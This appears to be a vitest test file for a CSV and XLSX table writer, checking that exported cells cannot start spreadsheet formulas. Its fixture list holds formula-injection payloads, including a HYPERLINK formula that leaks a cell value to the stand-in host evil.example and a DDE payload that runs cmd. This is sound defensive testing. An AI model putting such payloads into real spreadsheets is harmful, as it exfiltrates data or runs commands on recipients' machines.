import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { csvStream, csvText, isFormulaLike, writeXlsx, type TableRow } from './table-writer';

/** Cells that run something, or could, when a spreadsheet program opens the file. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '=1+2',
  '+1+2',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,2)',
  '\t=1+2',
  '\r=1+2',
  '＝1+2',
  'a;=1+2',
  'a,=1+2',
  '"=1+2',
];
const HARMLESS: TableRow = ['plain text', '-5', '-12.50', '0', 42, -7, 1.5, true, null, ''];

const rows: TableRow[] = [['name', 'value'], ...HOSTILE.map((cell) => [cell, 1]), HARMLESS];

async function collect(chunks: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const chunk of chunks) text += chunk;
  return text;
}

/** A cell a spreadsheet could evaluate: a formula, or text starting with a trigger that is not a plain number. */
function evaluable(cell: ExcelJS.Cell): boolean {
  if (cell.type === ExcelJS.ValueType.Formula) return true;
  return typeof cell.value === 'string' && isFormulaLike(cell.value);
}

describe('table writer', () => {
  it('writes a CSV in which no cell can start a formula, its text kept', async () => {
    for (const csv of [csvText(rows), await collect(csvStream([rows.slice(0, 4), rows.slice(4)]))]) {
      const records = parse(csv, { relax_column_count: true }) satisfies string[][];
      expect(records).toHaveLength(rows.length);
      expect(records.flat().filter((cell) => isFormulaLike(cell))).toEqual([]);
      expect(records.slice(1, 1 + HOSTILE.length).map((r) => r[0])).toEqual(
        HOSTILE.map((cell) => (isFormulaLike(cell) ? `'${cell}` : cell)),
      );
      expect(records.at(-1)).toEqual(['plain text', '-5', '-12.50', '0', '42', '-7', '1.5', 'true', '', '']);
    }
  });

  it('quotes every text field, so a separator inside a cell cannot start a cell of its own', () => {
    // A Dutch or German Excel splits a comma file on semicolons: the quotes keep `a;=1+2` one cell.
    expect(csvText([['=1+2', 'a;=1+2', -5, 3]])).toBe(`"'=1+2","a;=1+2",-5,3\n`);
  });

  it('writes an XLSX in which no cell is a formula or text starting with a trigger', async () => {
    const output = new PassThrough();
    const workbook = new ExcelJS.Workbook();
    await Promise.all([workbook.xlsx.read(output), writeXlsx(output, 'Rejected', [rows])]);
    const sheet = workbook.worksheets[0];
    const cells: ExcelJS.Cell[] = [];
    sheet?.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    expect(cells.length).toBeGreaterThan(2 * HOSTILE.length);
    expect(cells.filter(evaluable).map((cell) => cell.value)).toEqual([]);
    expect(sheet?.getCell('A2').value).toBe(`'${HOSTILE[0]}`);
    // Numbers stay numbers, negative ones written as text included.
    const last = sheet?.getRow(rows.length);
    expect([2, 3, 5, 6].map((column) => last?.getCell(column).value)).toEqual([-5, -12.5, 42, -7]);
    expect(last?.getCell(2).type).toBe(ExcelJS.ValueType.Number);
  });
});
